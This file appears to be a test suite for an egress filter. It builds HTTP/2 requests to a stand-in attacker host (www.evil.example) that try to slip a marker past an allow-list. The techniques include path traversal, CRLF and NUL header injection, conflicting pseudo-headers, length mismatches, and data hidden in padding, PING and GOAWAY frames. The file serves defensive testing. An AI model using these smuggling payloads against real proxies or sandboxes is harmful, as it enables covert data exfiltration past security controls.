"""Class 4 in HTTP/2: frames and header blocks that two readers could take for different requests.

The attacker's own host is allowed for GET below /ok. The marker rides in whatever is not that, or in
frames that end at each hop. Header blocks are literals without Huffman coding, so the marker can be
seen on the wire."""

from rig.attacks import Attack, AttackCase, attacks
from rig.cases import expand
from rig.internet import RESOLVER

POLICY = f"{RESOLVER}:53/udp\nGET http://www.evil.example/ok/*\n"

FRAMES = """
HEADERS, RST, SETTINGS, PUSH, PING, GOAWAY, CONTINUATION, END, WHOLE = 1, 3, 4, 5, 6, 7, 9, 1, 4
def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
def text(value):
    value = value if isinstance(value, bytes) else value.encode("latin-1")
    size = bytes([len(value)]) if len(value) < 127 else bytes([127, (len(value) - 127) % 128])
    return size + value
def block(*fields):
    return b"".join(b"\\0" + text(name) + text(value) for name, value in fields)
def fields(path="/ok/a", method="GET", host="www.evil.example", scheme="http"):
    return [(":method", method), (":scheme", scheme), (":authority", host), (":path", path)]
def request(stream, *more, flags=END | WHOLE, **facts):
    return frame(HEADERS, flags, stream, block(*fields(**facts), *more))
def say(*frames):
    s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80))
    s.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + frame(SETTINGS, 0, 0) + b"".join(frames))
    drain(s)
OPEN = WHOLE  # more of the message follows
"""


def attack(label, frames, **more):
    more.setdefault("silent", False)
    return Attack(label, f"{FRAMES}\nsay({frames})", policy=POLICY, **more)


def field(label, name, value):
    return attack(f"field: {label}", f"request(1, ({name}, {value}))")


def path(label, value, **more):
    return attack(f"path: {label}", f"request(1, path={value})", **more)


ATTACKS = [
    path("another", '"/" + MARKER'),
    path("dot segments", '"/ok/../" + MARKER'),
    path("dot segments with a parameter", '"/ok/..;/" + MARKER'),
    path("dot segments, encoded", '"/ok/%2e%2e/" + MARKER'),
    path("encoded slash", '"/ok/..%2f" + MARKER'),
    path("a blank and a version", '"/ok/a HTTP/1.1\\r\\nX: " + MARKER'),
    path("a whole request", '"/ok/a HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nPOST /" + MARKER'),
    path("a URL", '"http://www.evil.example/" + MARKER'),
    path("no slash", 'MARKER'),
    path("a fragment", '"/ok/a#" + MARKER'),
    attack("another method", 'request(1, path="/ok/" + MARKER, method="POST")'),
    attack("a method in lower case", 'request(1, path="/ok/" + MARKER, method="get")'),
    attack("a method with a line", 'request(1, method="GET /" + MARKER + " HTTP/1.1\\r\\n")'),
    attack("another authority", 'request(1, path="/ok/" + MARKER, host="www.other.example")'),
    attack("authority with a user", 'request(1, path="/ok/" + MARKER, host="www.evil.example@other.example")'),
    attack("two authorities", 'request(1, (":authority", "other.example"), path="/ok/" + MARKER)'),
    attack("two paths", 'request(1, (":path", "/" + MARKER))'),
    attack("another scheme", 'request(1, path="/ok/" + MARKER, scheme="https")'),
    attack("Host differs", 'request(1, ("host", "other.example"), path="/ok/" + MARKER)'),
    attack("behind an allowed stream", 'request(1), request(3, path="/" + MARKER)'),
    attack("behind many", 'b"".join(request(1 + 2 * i) for i in range(50)), request(101, path="/" + MARKER)'),
    field("a line end and a request", '"x"', '"y\\r\\n\\r\\nPOST /" + MARKER'),
    field("a line feed", '"x"', '"y\\nx-more: " + MARKER'),
    field("a carriage return", '"x"', '"y\\rx-more: " + MARKER'),
    field("a NUL", '"x"', '"y\\0" + MARKER'),
    field("a line end in a name", '"x\\r\\n" + MARKER', '"y"'),
    field("a colon in a name", '"x:" + MARKER', '"y"'),
    field("a name in upper case", '"X"', 'MARKER'),
    field("Transfer-Encoding", '"transfer-encoding"', '"chunked, " + MARKER'),
    field("Connection", '"connection"', 'MARKER'),
    field("Upgrade", '"upgrade"', 'MARKER'),
    field("a disguised length", '"content_length"', 'MARKER'),
    field("a length that is none", '"content-length"', 'MARKER'),
    attack("a body longer than its length",
           'request(1, ("content-length", "5"), flags=OPEN), frame(0, END, 1, mark * 3)'),
    attack("a body of a bodiless length",
           'request(1, ("content-length", "0"), flags=OPEN), frame(0, END, 1, mark)'),
    attack("a path in a second block", 'frame(HEADERS, END, 1, block(*fields())), '
           'frame(CONTINUATION, WHOLE, 1, block((":path", "/" + MARKER)))'),
    attack("a pseudo-field behind others", 'request(1, ("x", "y"), (":path", "/" + MARKER))'),
    attack("a path in trailers", 'request(1, flags=OPEN), '
           'frame(HEADERS, END | WHOLE, 1, block((":path", "/" + MARKER)))'),
    attack("CONNECT", 'frame(HEADERS, WHOLE, 1, block((":method", "CONNECT"), '
           '(":authority", "www.evil.example:443"))), frame(0, 0, 1, mark)'),
    attack("extended CONNECT", 'request(1, (":protocol", MARKER), method="CONNECT", flags=OPEN)'),
    attack("a body of a refused request",
           'request(1, method="POST", flags=OPEN), frame(0, END, 1, mark)'),
    attack("a body of no request", 'request(1), frame(0, END, 7, mark)'),
    attack("a promise", 'request(1), frame(PUSH, WHOLE, 1, struct.pack(">I", 2) + block(*fields("/" + MARKER)))'),
    attack("padding", 'frame(HEADERS, END | WHOLE | 8, 1, bytes([len(mark)]) + block(*fields()) + mark)',
           logged=False),
    attack("padding of a body", 'request(1, flags=OPEN), frame(0, END | 8, 1, bytes([len(mark)]) + mark)',
           logged=False),
    attack("the reason of GOAWAY", 'request(1), frame(GOAWAY, 0, 0, bytes(8) + mark)', logged=False),
    attack("an unknown frame", 'request(1), frame(200, 0, 0, mark), frame(201, 0, 1, mark)', logged=False),
    attack("pings", 'request(1), b"".join(frame(PING, 0, 0, mark[i:i + 8].ljust(8)) for i in (0, 8, 16))',
           logged=False, forms=lambda marker: [marker[:8].encode()]),
    attack("HTTP/1 behind the preface", 'b"POST /" + mark + b" HTTP/1.1\\r\\nHost: www.evil.example\\r\\n\\r\\n"'),
]


@expand
class Http2(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)
